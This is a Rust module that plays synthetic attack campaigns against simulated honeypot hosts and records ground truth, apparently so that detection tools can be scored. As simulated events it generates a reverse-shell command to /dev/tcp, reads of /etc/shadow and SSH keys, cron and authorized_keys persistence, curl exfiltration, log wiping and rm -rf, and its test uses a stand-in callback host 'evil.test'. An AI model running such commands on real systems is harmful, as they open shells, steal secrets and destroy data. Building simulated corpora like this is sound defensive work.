//! Plays a corpus: events as decoys write them, and apart from them who did what.

use super::{Act, Actor, Campaign, Corpus, Pool, Print, Tools, Which, shapes};
use crate::dice::{Dice, digest};
use model::{Captured, DeckyId, Event, FileWay, HttpRequest, Id, Micros, Outcome, Phase, Saw, SecretKind, Session, Why};
use std::{
    collections::{BTreeMap, HashMap},
    net::{IpAddr, Ipv4Addr, SocketAddr},
};

/// 2026-01-01T00:00:00Z: where stories begin.
pub const EPOCH: Micros = Micros(1_767_225_600_000_000);
const SECOND: i64 = 1_000_000;
const DAY: i64 = 86_400;
/// Exits of the anonymising network that stories use.
const EXITS: u64 = 64;

/// Who was behind a session. For scoring only.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Truth {
    pub campaign: String,
    pub identity: String,
    pub actor: String,
    pub phase: Phase,
    /// Which of the actor's addresses, as the story's row: equal for sessions of one actor at one address.
    pub row: String,
    pub ip: IpAddr,
}

/// A corpus, played.
#[derive(Clone, Debug, Default)]
pub struct Played {
    /// In the order of time.
    pub events: Vec<Event>,
    /// By connection.
    pub truth: HashMap<Id<Session>, Truth>,
    /// The autonomous system each address belongs to.
    pub asns: BTreeMap<IpAddr, u32>,
    /// Sessions of the story: a connection that shows only a handshake belongs to the session after it.
    pub sessions: u64,
}

/// Plays `corpus` with `seed`, all times moved by `shift_days`.
pub fn play(corpus: &Corpus, seed: u64, shift_days: i64) -> Played {
    let mut stage =
        Stage { out: Played::default(), deckies: corpus.deckies.max(1), start: EPOCH.0 + shift_days * DAY * SECOND, taken: HashMap::new() };
    for (at, campaign) in corpus.campaigns.iter().enumerate() {
        stage.campaign(campaign, Dice::named(seed, &format!("campaign {at} {}", campaign.id)), seed);
    }
    let days = corpus.campaigns.iter().map(|c| c.duration_days).max().unwrap_or(1);
    let mut dice = Dice::named(seed, "noise");
    for n in 1..=corpus.scanners {
        stage.scanner(n, days, &mut dice);
    }
    stage.out.events.sort_by_key(|event| (event.at, event.id));
    stage.out
}

struct Stage {
    out: Played,
    deckies: u64,
    start: i64,
    /// Addresses given out, so that no two are the same by chance.
    taken: HashMap<IpAddr, u32>,
}

/// One address an actor uses.
struct Row {
    name: String,
    ip: IpAddr,
}

/// Where somebody got in.
#[derive(Default)]
struct Footholds {
    by_actor: HashMap<usize, u64>,
    last: Option<u64>,
}

impl Stage {
    fn campaign(&mut self, campaign: &Campaign, mut dice: Dice, seed: u64) {
        let rows: Vec<Vec<Row>> = campaign.actors.iter().map(|actor| self.rows(campaign, actor, seed, &mut dice)).collect();
        let mut turns = vec![0_usize; campaign.actors.len()];
        let mut footholds = Footholds::default();
        for act in &campaign.phases {
            let (Some(actor), Some(rows), Some(turn)) = (campaign.actors.get(act.actor), rows.get(act.actor), turns.get_mut(act.actor))
            else {
                continue;
            };
            let days = days(campaign, actor, act);
            for _ in 0..act.target.count {
                let Some(row) = rows.get(*turn % rows.len().max(1)) else { continue };
                *turn += 1;
                let day = dice.pick(&days).copied().unwrap_or(0);
                let hour = dice.pick(&actor.hours).copied().unwrap_or(0);
                let seconds = day * DAY + hour * 3_600 + dice.between(-actor.jitter_seconds, actor.jitter_seconds) + dice.between(0, 3_599);
                let decky = match &act.target.decky {
                    Which::Any => self.any_decky(&mut dice),
                    Which::PreviousSuccess => self.decky(footholds.by_actor.get(&act.actor).copied().or(footholds.last).unwrap_or(1)),
                    Which::Named(name) => name.clone(),
                };
                let success = dice.chance(act.success_rate);
                if success
                    && matches!(act.phase, Phase::Exploitation | Phase::Persistence)
                    && let Some(number) = decky.strip_prefix("decky-").and_then(|n| n.parse().ok())
                {
                    footholds.by_actor.insert(act.actor, number);
                    footholds.last = Some(number);
                }
                let truth = Truth {
                    campaign: campaign.id.clone(),
                    identity: actor.identity.clone().unwrap_or_else(|| format!("{}/{}", campaign.id, actor.id)),
                    actor: format!("{}/{}", campaign.id, actor.id),
                    phase: act.phase,
                    row: row.name.clone(),
                    ip: row.ip,
                };
                let tools = tools_on(actor, day);
                self.session(&Scene {
                    actor,
                    act,
                    truth,
                    decky,
                    at: self.start + seconds * SECOND,
                    success,
                    tools,
                    dice: Dice::new(dice.bits()),
                });
            }
        }
    }

    fn any_decky(&self, dice: &mut Dice) -> String {
        let number = dice.below(self.deckies) + 1;
        self.decky(number)
    }

    fn decky(&self, number: u64) -> String {
        format!("decky-{number:02}")
    }

    fn rows(&mut self, campaign: &Campaign, actor: &Actor, seed: u64, dice: &mut Dice) -> Vec<Row> {
        let base = format!("{}/{}", campaign.id, actor.id);
        if !actor.addresses.is_empty() {
            return actor
                .addresses
                .iter()
                .map(|name| {
                    let ip = name.parse().unwrap_or_else(|_| public(&mut Dice::named(seed, &format!("address {name}"))));
                    self.taken.insert(ip, 1);
                    self.out.asns.entry(ip).or_insert(actor.asn.unwrap_or(0));
                    Row { name: format!("{base}@{ip}"), ip }
                })
                .collect();
        }
        (0..actor.rotation_count.max(1))
            .map(|n| {
                let (ip, asn) = match actor.pool {
                    Pool::Tor => {
                        let exit = dice.below(EXITS);
                        let mut exits = Dice::named(seed, &format!("exit {exit}"));
                        (public(&mut exits), 60_000 + u32::try_from(exit % 16).unwrap_or(0))
                    }
                    Pool::Sticky | Pool::Rotating => {
                        let turn = usize::try_from(n).unwrap_or(0) % actor.rotation_asns.len().max(1);
                        let asn = actor.rotation_asns.get(turn).copied().or(actor.asn);
                        (self.fresh(dice), asn.unwrap_or_else(|| u32::try_from(1_000 + dice.below(64_000)).unwrap_or(0)))
                    }
                };
                self.taken.insert(ip, 1);
                self.out.asns.insert(ip, asn);
                Row { name: format!("{base}@{ip}"), ip }
            })
            .collect()
    }

    /// A public address nobody has yet.
    fn fresh(&mut self, dice: &mut Dice) -> IpAddr {
        loop {
            let ip = public(dice);
            if self.taken.insert(ip, 1).is_none() {
                return ip;
            }
        }
    }

    fn scanner(&mut self, n: u64, days: i64, dice: &mut Dice) {
        let ip = self.fresh(dice);
        let asn = u32::try_from(dice.between(1_000, 65_000)).unwrap_or(0);
        self.out.asns.insert(ip, asn);
        let at = self.start + dice.between(0, days * DAY - 1) * SECOND;
        let decky = self.any_decky(dice);
        let (service, port) = dice.pick(&[("ssh", 22), ("telnet", 23), ("http", 80), ("redis", 6379)]).copied().unwrap_or(("ssh", 22));
        let name = format!("noise-{n:06}");
        let truth = Truth { campaign: name.clone(), identity: name.clone(), actor: name.clone(), phase: Phase::Delivery, row: name, ip };
        self.out.sessions += 1;
        self.connection(truth, &decky, service, port, at, SECOND, Vec::new(), dice);
    }

    fn session(&mut self, scene: &Scene<'_>) {
        let mut dice = scene.dice.clone();
        let signature = &scene.act.signature;
        let seen = |dice: &mut Dice| !dice.chance(scene.actor.missing);
        let dwell = scene.act.dwell_seconds * SECOND;
        self.out.sessions += 1;
        let shows_tls = seen(&mut dice);
        if let Some(print) = pick_print(&scene.tools.ja3, &mut dice)
            && shows_tls
        {
            let hello = shapes::client_hello(print, &mut dice);
            let saw = vec![(50_000, Saw::TlsClientHello { hello: hello.into() })];
            self.connection(scene.truth.clone(), &scene.decky, "https", 443, scene.at - 2 * SECOND, SECOND, saw, &mut dice);
        }
        let shows_ssh = seen(&mut dice);
        let ssh = pick_print(&scene.tools.hassh, &mut dice).filter(|_| shows_ssh);
        let asked = scene.act.target.service.as_deref();
        let (service, port) = match asked {
            Some("https") | None if ssh.is_some() => ("ssh", 22),
            Some(service) => (service, scene.act.target.port.unwrap_or_else(|| port_of(service))),
            None => ("telnet", 23),
        };
        let mut saw: Vec<(i64, Saw)> = Vec::new();
        if let Some(print) = ssh {
            let (banner, kexinit) = shapes::ssh_client(print, &mut dice);
            let handshake = (60_000, Saw::SshClient { banner: banner.into(), kexinit: kexinit.into() });
            if service == "ssh" {
                saw.push(handshake);
            } else {
                self.connection(scene.truth.clone(), &scene.decky, "ssh", 22, scene.at - SECOND, SECOND / 2, vec![handshake], &mut dice);
            }
        }
        let mut clock = 200_000;
        let mut step = |dice: &mut Dice, most: i64| {
            clock += dice.between(1, most.max(1));
            clock
        };
        // What a session does fills its time: commands a second or so apart unless it stays longer.
        let lines = scene.lines();
        let events = signature.credentials.len() + lines.len() + signature.c2.len() + signature.payloads.len() + 1;
        let pace = (dwell / i64::try_from(events).unwrap_or(1)).clamp(2_000, 30 * SECOND);
        if seen(&mut dice) {
            for (i, (user, password)) in signature.credentials.iter().enumerate() {
                let last = i + 1 == signature.credentials.len();
                let outcome = if last && scene.success { Outcome::Success } else { Outcome::Failure };
                let attempt = Saw::AuthAttempt {
                    principal: Some(user.as_str().into()),
                    secret: password.as_str().into(),
                    secret_kind: SecretKind::Plaintext,
                    outcome,
                    challenge: None,
                };
                saw.push((step(&mut dice, pace), attempt));
            }
        }
        for path in
            signature.paths.iter().map(String::as_str).chain((signature.user_agent.is_some() && signature.paths.is_empty()).then_some("/"))
        {
            let mut headers = vec![(Captured::from("Host"), Captured::from("localhost"))];
            if let Some(agent) = &signature.user_agent {
                headers.push(("User-Agent".into(), agent.as_str().into()));
            }
            let request = HttpRequest {
                method: "GET".into(),
                target: path.into(),
                version: "HTTP/1.1".into(),
                headers,
                status: 404,
                ..HttpRequest::default()
            };
            let at = scene.at + step(&mut dice, pace);
            self.connection(
                scene.truth.clone(),
                &scene.decky,
                "http",
                80,
                at,
                SECOND / 2,
                vec![(10_000, Saw::Request(request))],
                &mut dice,
            );
        }
        if seen(&mut dice) {
            for line in lines {
                saw.push((step(&mut dice, pace), command(&line)));
            }
        }
        if seen(&mut dice) {
            for c2 in &signature.c2 {
                let beacon = scene.act.phase == Phase::CommandAndControl;
                if beacon && let Some((host, port)) = endpoint(c2) {
                    saw.push((step(&mut dice, pace), command(&format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"))));
                    saw.push((step(&mut dice, 1_000), Saw::UrlSeen { url: format!("tcp://{host}:{port}").into(), tool: "bash".into() }));
                } else {
                    let url = if c2.contains("://") { c2.clone() } else { format!("http://{c2}/") };
                    saw.push((step(&mut dice, pace), Saw::UrlSeen { url: url.into(), tool: "curl".into() }));
                }
            }
        }
        if seen(&mut dice) {
            for sha256 in &signature.payloads {
                let path = format!("/tmp/.{:06x}", dice.below(1 << 24));
                let kept = Saw::FileCaptured {
                    sha256: sha256.clone(),
                    size: 4_096 + digest(sha256.as_bytes()) % 100_000,
                    path: path.into(),
                    way: FileWay::Written,
                    whole: true,
                };
                saw.push((step(&mut dice, pace), kept));
            }
        }
        let duration = dwell.max(saw.last().map_or(0, |(at, _)| *at) + 10_000);
        self.connection(scene.truth.clone(), &scene.decky, service, port, scene.at, duration, saw, &mut dice);
    }

    #[expect(clippy::too_many_arguments, reason = "one connection is this much")]
    fn connection(
        &mut self,
        truth: Truth,
        decky: &str,
        service: &str,
        port: u16,
        at: i64,
        duration: i64,
        saw: Vec<(i64, Saw)>,
        dice: &mut Dice,
    ) {
        let source = SocketAddr::new(truth.ip, u16::try_from(dice.between(32_768, 60_999)).unwrap_or(40_000));
        let number = decky.strip_prefix("decky-").and_then(|n| n.parse::<u32>().ok()).unwrap_or(250);
        let local = SocketAddr::new(IpAddr::V4(Ipv4Addr::from(0x0a4d_0000 + (number & 0xffff))), port);
        let session = Id::<Session>::at(Micros(at), dice.ten());
        let end = Saw::Disconnect {
            duration_us: u64::try_from(duration).unwrap_or(0),
            bytes_in: 400 + saw.len() as u64 * 40,
            bytes_out: 900 + saw.len() as u64 * 120,
            why: Why::Visitor,
        };
        self.out.truth.insert(session, truth);
        for (after, saw) in std::iter::once((0, Saw::Connect { syn: None })).chain(saw).chain([(duration, end)]) {
            let at = Micros(at + after);
            self.out.events.push(Event {
                id: Id::at(at, dice.ten()),
                at,
                decky: DeckyId::local(decky),
                service: service.to_owned(),
                session: Some(session),
                source: Some(source),
                local: Some(local),
                saw,
            });
        }
    }
}

struct Scene<'a> {
    actor: &'a Actor,
    act: &'a Act,
    truth: Truth,
    decky: String,
    at: i64,
    success: bool,
    tools: Tools,
    dice: Dice,
}

impl Scene<'_> {
    fn lines(&self) -> Vec<String> {
        match &self.act.signature.commands {
            Some(lines) => lines.clone(),
            None => usual(self.act.phase).iter().map(|l| (*l).to_owned()).collect(),
        }
    }
}

fn command(line: &str) -> Saw {
    Saw::Command { line: line.into(), user: Some("root".into()), cwd: None }
}

fn pick_print<'a>(prints: &'a [Print], dice: &mut Dice) -> Option<&'a Print> {
    dice.pick(prints)
}

fn tools_on(actor: &Actor, day: i64) -> Tools {
    let mut now = Tools::default();
    for tools in actor.tools.iter().filter(|t| t.from_day <= day) {
        if !tools.ja3.is_empty() {
            now.ja3.clone_from(&tools.ja3);
        }
        if !tools.hassh.is_empty() {
            now.hassh.clone_from(&tools.hassh);
        }
    }
    now
}

/// Days on which an act may happen: within the campaign, not paused, when the actor works.
fn days(campaign: &Campaign, actor: &Actor, act: &Act) -> Vec<i64> {
    let wanted = if act.days.is_empty() { &actor.active_days } else { &act.days };
    let paused = |day: &i64| campaign.pauses.iter().any(|(first, last)| (first..=last).contains(&day));
    let all: Vec<i64> =
        (0..campaign.duration_days).filter(|day| !paused(day)).filter(|day| wanted.is_empty() || wanted.contains(day)).collect();
    if !all.is_empty() {
        return all;
    }
    // Days outside the campaign are meant as they stand.
    let outside: Vec<i64> = wanted.iter().copied().filter(|day| !paused(day)).collect();
    if outside.is_empty() { vec![0] } else { outside }
}

/// Host and port of a call-back address.
fn endpoint(c2: &str) -> Option<(String, String)> {
    let (scheme, rest) = c2.split_once("://").unwrap_or(("", c2));
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let (host, port) = match authority.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) && !port.is_empty() => (host, port.to_owned()),
        _ => (authority, if scheme == "https" { "443".into() } else { "80".into() }),
    };
    (!host.is_empty()).then(|| (host.to_owned(), port))
}

fn port_of(service: &str) -> u16 {
    match service {
        "ssh" => 22,
        "http" => 80,
        "https" => 443,
        "ftp" => 21,
        "mysql" => 3306,
        "redis" => 6379,
        "smtp" => 25,
        "rdp" => 3389,
        "smb" => 445,
        "postgres" => 5432,
        _ => 23,
    }
}

/// A random public IPv4 address.
fn public(dice: &mut Dice) -> IpAddr {
    loop {
        let ip = Ipv4Addr::from(u32::try_from(dice.bits() >> 32).unwrap_or(0));
        let [a, b, ..] = ip.octets();
        let special = matches!(a, 0 | 10 | 127) || a >= 224 || (a == 172 && (16..32).contains(&b)) || (a == 192 && b == 168);
        if !special && !(a == 169 && b == 254) && !(a == 100 && (64..128).contains(&b)) {
            return IpAddr::V4(ip);
        }
    }
}

/// What is usual in a phase, for acts that name no commands.
fn usual(phase: Phase) -> &'static [&'static str] {
    match phase {
        Phase::Discovery => &["whoami", "id", "uname -a", "ip route", "arp -a", "cat /etc/passwd"],
        Phase::CredentialAccess => &["cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat ~/.ssh/known_hosts"],
        Phase::Persistence => {
            &["(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -", "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"]
        }
        Phase::LateralMovement => &["ssh root@10.0.0.5", "scp /tmp/.x root@10.0.0.5:/tmp/"],
        Phase::Collection => &["tar czf /tmp/out.tgz /home /etc"],
        Phase::Exfiltration => &["curl -T /tmp/out.tgz \"$DROP\""],
        Phase::Execution => &["chmod +x payload", "./payload"],
        Phase::PrivilegeEscalation => &["sudo -l", "find / -perm -4000 -type f"],
        Phase::DefenseEvasion => &["history -c", "rm -f /var/log/wtmp"],
        Phase::Impact => &["rm -rf /srv/data"],
        _ => &[],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const STORY: &str = "campaign:\n  id: x\n  duration_days: 3\n  pause_windows: [[1, 1]]\n  actors:\n  - {id: a, asn: 1, ip_pool: rotating, rotation_count: 3, ja3: j, hassh: h, hours_active_utc: [5]}\n  - {id: b, asn: 2}\n  phases:\n  - {name: exploitation, actor: a, target_selector: {count: 4}, tool_signature: {payload_hash: p, c2_callback: 'evil.test:443', credentials: [[root, x]]}}\n  - {name: command_and_control, actor: b, target_selector: {decky: previous_success}, tool_signature: {c2_callback: 'evil.test:443'}}\nnoise: {scanner_count: 2}\n";

    #[test]
    fn the_same_seed_plays_the_same_and_times_shift_together() {
        let corpus = Corpus::read(STORY, &|_| None).unwrap();
        let (a, b, c) = (play(&corpus, 1, 0), play(&corpus, 1, 0), play(&corpus, 2, 0));
        assert_eq!(a.events, b.events);
        assert_ne!(a.events, c.events);
        let shifted = play(&corpus, 1, 90);
        for (a, b) in a.events.iter().zip(&shifted.events) {
            assert_eq!(a.at.0 + 90 * DAY * SECOND, b.at.0);
            assert_eq!(a.saw, b.saw);
        }
    }

    #[test]
    fn what_was_written_happens() {
        let corpus = Corpus::read(STORY, &|_| None).unwrap();
        let played = play(&corpus, 3, 0);
        assert_eq!(played.sessions, 4 + 1 + 2);
        let rows: std::collections::BTreeSet<_> = played.truth.values().map(|t| t.row.clone()).collect();
        assert_eq!(rows.len(), 3 + 1 + 2);
        let day = |event: &Event| (event.at.0 - EPOCH.0).div_euclid(DAY * SECOND);
        assert!(played.events.iter().filter(|e| !played.truth[&e.session.unwrap()].campaign.starts_with("noise")).all(|e| day(e) != 1));
        let last = played.events.iter().filter(|e| matches!(e.saw, Saw::FileCaptured { .. })).count();
        assert_eq!(last, 4);
        let hand_over = played.events.iter().find(|e| matches!(&e.saw, Saw::UrlSeen { tool, .. } if tool == "bash")).unwrap();
        let broken_into: Vec<_> =
            played.events.iter().filter(|e| matches!(e.saw, Saw::FileCaptured { .. })).map(|e| e.decky.clone()).collect();
        assert!(broken_into.contains(&hand_over.decky));
    }
}
